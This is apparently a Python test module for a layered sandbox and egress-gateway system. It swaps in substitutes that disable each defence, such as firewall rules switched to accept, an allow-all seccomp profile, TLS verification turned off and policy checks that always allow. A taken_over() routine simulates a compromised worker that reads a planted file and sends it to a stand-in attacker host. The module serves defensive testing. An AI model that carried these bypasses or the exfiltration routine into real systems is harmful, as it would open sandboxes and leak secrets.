"""The substitutes, by the process in which they are installed. Each acts like the worst possible failure of its layer.

`replaced` keeps the real function and reads the state at each call, so that one running server serves every row of the
matrix. hostd, vaultd and auditd read the state at each call; a worker reads it once, when it is forked.
"""

import json
import logging
import os
import socket
from collections.abc import Callable
from dataclasses import replace
from functools import wraps
from pathlib import Path
from typing import Any

from tests.security.layers.state import STATE

UNJUDGED, FAILING = "/v1/unjudged", "/v1/failing"
"""Provoked in every worker: its judge skips requests for the first path and raises for requests for the second."""
UNRECORDED = "/v1/unrecorded"
"""Provoked in auditd: no record of a request for this path is accepted."""
TAKEN_OVER = "a worker that is taken over"
DYING = "a worker that dies at each request"
PLANTED = "planted-for-a-worker-that-was-taken-over"


def replaced(owner: Any, name: str, defence: str, weak: Callable[..., Any]) -> None:
    """Replace `owner.name` by `weak(real, ...)` while `defence` is off."""
    real = getattr(owner, name)

    @wraps(real)
    def chosen(*arguments: Any, **named: Any) -> Any:
        return weak(real, *arguments, **named) if STATE.off(defence) else real(*arguments, **named)

    setattr(owner, name, chosen)


def in_hostd() -> None:
    """Substitute the route, the rules of a slot, the guard, the seccomp profile and the shim.

    The watch is off, because it would remove the changed slots.
    """
    from runtimes import hostd
    from runtimes.engine import containers, wrappers
    from runtimes.net import guard, nft, slots
    from testbed import ungate
    from tests.unwatched import Unwatched

    render, make, spawn, write = nft.render_gateway, slots.make, guard.NetGuard._spawn, wrappers.write_wrappers

    def rules(plan: Any) -> str:
        text = render(plan)
        if STATE.off("netdev pinning"):
            text = text[text.index("table inet") :]
        if STATE.off("redirect"):
            text = text.replace("priority dstnat; policy drop", "priority dstnat; policy accept")
        left, chain = [], ""
        for line in text.splitlines():
            chain = line.split()[1] if line.strip().startswith("chain ") else chain
            left += [line] if kept(chain, line) else []
        return "".join(f"{line}\n" for line in left).replace(
            "policy drop", "policy accept" if STATE.off("gw0 rules") else "policy drop"
        )

    def kept(chain: str, line: str) -> bool:
        if chain == "dropped":  # only verdicts of other chains lead here
            return True
        verdict = line.strip().endswith((" drop", "goto dropped", "reject with tcp reset"))
        if "redirect to" in line or (chain == "steer" and verdict and STATE.off("redirect")):
            return not STATE.off("redirect")
        pinned = "ether saddr" in line
        return not (verdict and not pinned and STATE.off("gw0 rules"))

    def slot(directory: Path, index: int, plan: Any) -> Any:
        made = make(directory, index, plan)
        if STATE.off("no route"):
            ungate.uplink(str(made.gateway), STATE.place("net"), index % 32)
        return made

    async def guarded(self: Any) -> None:
        text = self.rules_file.read_text()
        if STATE.off("upstream-namespace table"):
            text = text.replace("goto worker", "goto passed")
        elif "goto worker" not in text:
            text = text.replace("goto passed\n\t}\n}", "goto worker\n\t}\n}")
        self.rules_file.write_text(text)
        self.tables = ""  # as for a first guard, because the table differs from the former one on purpose
        await spawn(self)

    def wrapped(directory: Path, *arguments: Any) -> Any:
        entries = write(directory, *arguments)
        for path in directory.iterdir():
            own = Path(__file__).with_name("shim.py")
            path.write_text(path.read_text().replace(str(Path(wrappers.__file__).with_name("shim.py")), str(own)))
        return entries

    nft.render_gateway, slots.make, wrappers.write_wrappers = rules, slot, wrapped
    guard.NetGuard._spawn = guarded  # type: ignore[method-assign]
    hostd.Watch = Unwatched  # type: ignore[assignment,misc]
    open_profile = json.dumps({"defaultAction": "SCMP_ACT_ALLOW", "syscalls": []})
    replaced(containers.seccomp, "profile_json", "seccomp profile", lambda real: open_profile)


def in_vaultd() -> None:
    """Substitute the decision by the secret's binding and the sandbox's grants."""
    from vault.custody import MAX_LEASE, Consent, Custody

    def consent(real: Any, custody: Any, sandbox: str, wanted: Any, *_: Any, **_named: Any) -> Any:
        # the scope of the lease stays the true one
        return Consent(MAX_LEASE, custody.store.info(wanted.secret).binding.scope)

    replaced(Custody, "decide", "vaultd's grant check", consent)


def in_auditd() -> None:
    """Provoke a failure: no record about `UNRECORDED` is accepted."""
    from audit.auditd import ChannelOwner
    from wire import Code, RequestError

    real = ChannelOwner.entry

    def entry(identity: ChannelOwner, asked: Any) -> Any:
        if asked.fields.get("path") == UNRECORDED:
            raise RequestError(Code.UNAVAILABLE, "provoked")
        return real(identity, asked)

    ChannelOwner.entry = entry  # type: ignore[method-assign]


def in_workers() -> None:
    """Install all substitutes of a worker before the zygote forks the first one."""
    from gateway import spawn

    become = spawn.become_worker

    def born(order: Any) -> int:
        STATE.freeze()
        return become(order)

    spawn.become_worker = born
    _jail(spawn)
    _names()
    _requests()
    _engine()


def _jail(birth: Any) -> None:
    from gateway import confine

    replaced(birth, "_drop_privileges", "worker uid", lambda real, uid, gid: None)
    replaced(confine, "refuse_rings", "worker seccomp", lambda real: None)
    replaced(confine, "install", "worker seccomp", lambda real, pinned: None)
    replaced(confine, "empty_root", "empty root", lambda real: None)
    install = confine.install

    def installed(pinned: int) -> None:
        install(pinned)
        if STATE.provoked(TAKEN_OVER):
            taken_over()

    def taken_over() -> None:
        """Act as a compromised worker: read the planted file and send it to the attacker."""
        found = b""
        try:
            with open(STATE.place("planted"), "rb") as file:
                found = file.read()
        except OSError:
            found = _by_a_program()
        try:
            with socket.create_connection((STATE.place("attacker"), 22), timeout=3) as sock:
                sock.sendall(b"taken over: " + found)
                sock.recv(100)
        except OSError as error:
            logging.getLogger("provoked").warning("%s", error)

    confine.install = installed


def _by_a_program() -> bytes:
    try:
        ours, theirs = os.pipe()
        pid = os.fork()
    except OSError:
        return b""
    if pid == 0:
        os.dup2(theirs, 1)
        try:
            os.execv("/bin/cat", ["cat", STATE.place("planted")])  # noqa: S606
        finally:
            os._exit(1)
    os.close(theirs)
    found = os.read(ours, 4096)
    os.close(ours)
    return found


def _names() -> None:
    """Substitute the decisions about names and addresses."""
    from gateway import accept, upstream, worker
    from gateway.dns import queries, server
    from policy import destination
    from policy.decision import AllowAddress, AllowFlow, AllowName, Deny, Treatment
    from policy.facts import Scheme

    def any_flow(real: Any, config: Any, facts: Any) -> Any:
        answer = real(config, facts)
        treatment = Treatment.INSPECT if facts.scheme is Scheme.HTTP else Treatment.SPLICE
        return AllowFlow("off", treatment) if isinstance(answer, Deny) else answer

    def any_name(real: Any, *arguments: Any, **named: Any) -> Any:
        """Allow any name. The address class is still judged, because it is a separate defence."""
        answer = real(*arguments, **named)
        by_name = isinstance(answer, Deny) and not answer.rule.startswith("address-class:")
        return AllowAddress("off") if by_name else answer

    replaced(queries, "decide_name", "DNS policy", lambda real, *_: AllowName("off"))
    replaced(accept, "judge_flow", "SNI check", any_flow)
    replaced(accept, "judge", "SNI check", lambda real, *_: AllowAddress("off"))
    replaced(worker, "decide_name", "name check of resolver and dialler", lambda real, *_: AllowName("off"))
    replaced(upstream, "judge", "name check of resolver and dialler", any_name)
    replaced(destination, "dialable", "address classifier", lambda real, *_: None)
    replaced(upstream, "own_address", "address classifier", lambda real, *_: False)
    replaced(upstream, "is_own", "address classifier", lambda real, *_: False)
    replaced(upstream, "judge", "name-to-address check", lambda real, *_, **__: AllowAddress("off"))
    replaced(server, "judge_answer", "name-to-address check", lambda real, *_: AllowAddress("off"))


def _requests() -> None:
    """Substitute the checks of one request: its form, its decision, its record and its secret."""
    from audit.client import AuditClient
    from audit.shared_ring import RingWriter
    from gateway import exchange, ports, translate
    from gateway.tls import hello
    from policy.decision import AllowRequest, Deny
    from vault.client import Lease

    def any_request(real: Any, policy: Any, facts: Any) -> Any:
        answer = real(policy, facts)
        if not isinstance(answer, Deny):
            return answer
        plans = [plan for rules in policy.lists for rule in rules.of_host(facts.host) for plan in rule.injections]
        return AllowRequest("off", tuple(plans))

    room, put = AuditClient._room, RingWriter.put

    def put_others(ring: Any, content: bytes) -> bool:
        return UNRECORDED.encode() not in content and put(ring, content)

    async def no_room(client: Any, kind: str, content: bytes, ring: Any) -> bool:
        return UNRECORDED.encode() not in content and await room(client, kind, content, ring)

    # A failure that `in_auditd` provokes: the record is a request, which auditd refuses.
    RingWriter.put, AuditClient._room = put_others, no_room  # type: ignore[method-assign]

    async def unrecorded(real: Any, *_arguments: Any, **_fields: Any) -> int:
        return 0

    replaced(ports, "decide_request", "per-request check", any_request)
    replaced(Lease, "check", "scope check of a lease", lambda real, *_: None)
    replaced(AuditClient, "accept", "audit acceptance", unrecorded)
    replaced(exchange.Scrubber, "feed", "response scrub", lambda real, self, data: data)
    replaced(exchange.Scrubber, "finish", "response scrub", lambda real, self, last=b"": last)
    replaced(exchange, "scrub_header", "response scrub", lambda real, patterns, text: text)
    agreement = "host, SNI and certificate agreement"
    replaced(translate, "_check_authority", agreement, lambda real, *_: None)
    split = hello.split_absolute

    def any_target(real: Any, parts: Any, flow: Any) -> Any:
        absolute = split(parts.target)
        return real(parts, flow) if absolute is None else absolute[2]

    replaced(translate, "_target", "absolute-target check", any_target)
    replaced(hello, "split_absolute", "absolute-target check", lambda real, target: None)
    framing = translate._check_framing

    def lax(real: Any, parts: Any, named: Any) -> Any:
        return framing(parts, {name: value for name, value in named.items() if name != b"content-length"})

    replaced(translate, "_check_framing", "framing check", lax)
    replaced(exchange, "body_length", "length of a leased body", lambda real, *_, **__: None)
    _forwarding(exchange)


def _forwarding(exchange: Any) -> None:
    """Forward the target or Host as received, instead of the form that was judged."""

    def same_target(real: Any, self: Any, parts: Any, *arguments: Any) -> Any:
        return replace(real(self, parts, *arguments), target=parts.target)

    def same_host(real: Any, self: Any, parts: Any, *arguments: Any) -> Any:
        head = real(self, parts, *arguments)
        came = next(value for name, value in parts.headers if name.lower() == b"host")
        return replace(head, headers=tuple((name, came if name == b"Host" else value) for name, value in head.headers))

    replaced(exchange.Exchange, "_head", "origin form", same_target)
    replaced(exchange.Exchange, "_head", "Host from the flow", same_host)


def _engine() -> None:
    """Substitute the checks of the engine and of its HTTP/1.1 framing, through which all these attacks go."""
    from OpenSSL import SSL

    from gateway import exchange
    from gateway.engines import engine
    from gateway.engines.http1 import framing, transaction
    from gateway.tls import contexts
    from gateway.verdicts import Forward, ForwardHead

    agreement = "host, SNI and certificate agreement"

    def unverified(real: Any, *arguments: Any) -> Any:
        made = real(*arguments)
        made.set_verify(SSL.VERIFY_NONE, lambda *_: True)
        return made

    def unjudged(parts: Any) -> Forward:
        """Forward a request as received, as if a part of the engine had skipped its decision."""
        return Forward(ForwardHead(parts.target, b"", parts.headers), False)

    async def swallowed(real: Any, self: Any, parts: Any, destination: Any) -> Any:
        """Log an exception of the judge and continue the flow, as hosts of add-ons do."""
        try:
            return await real(self, parts, destination)
        except Exception:  # noqa: BLE001 - the point of this substitute
            return unjudged(parts)

    replaced(contexts.UpstreamContext, "connect", agreement, unverified)
    replaced(contexts, "verified", agreement, lambda real, *_: True)
    replaced(engine.FlowEngine, "_refusal", agreement, lambda real, *_: None)
    replaced(contexts, "certified", "certified name", lambda real, names, host: host)
    replaced(framing, "check_framing", "framing of what is sent", lambda real, headers: None)
    replaced(transaction.Transaction, "check", "sentinel", lambda real, *_: None)
    replaced(exchange.Exchange, "_require", "order of steps", lambda real, *_, **__: None)
    replaced(exchange.Session, "may_connect", "no connection without an allowed request", lambda real, *_: True)

    judge = transaction.Transaction.judge

    async def provoked(self: Any, parts: Any, destination: Any) -> Any:
        if STATE.provoked(DYING):
            os._exit(1)
        if parts.target == UNJUDGED.encode():
            return unjudged(parts)
        if parts.target == FAILING.encode():
            raise RuntimeError("provoked")
        return await judge(self, parts, destination)

    transaction.Transaction.judge = provoked  # type: ignore[method-assign]
    replaced(transaction.Transaction, "judge", "exception ends the flow", swallowed)
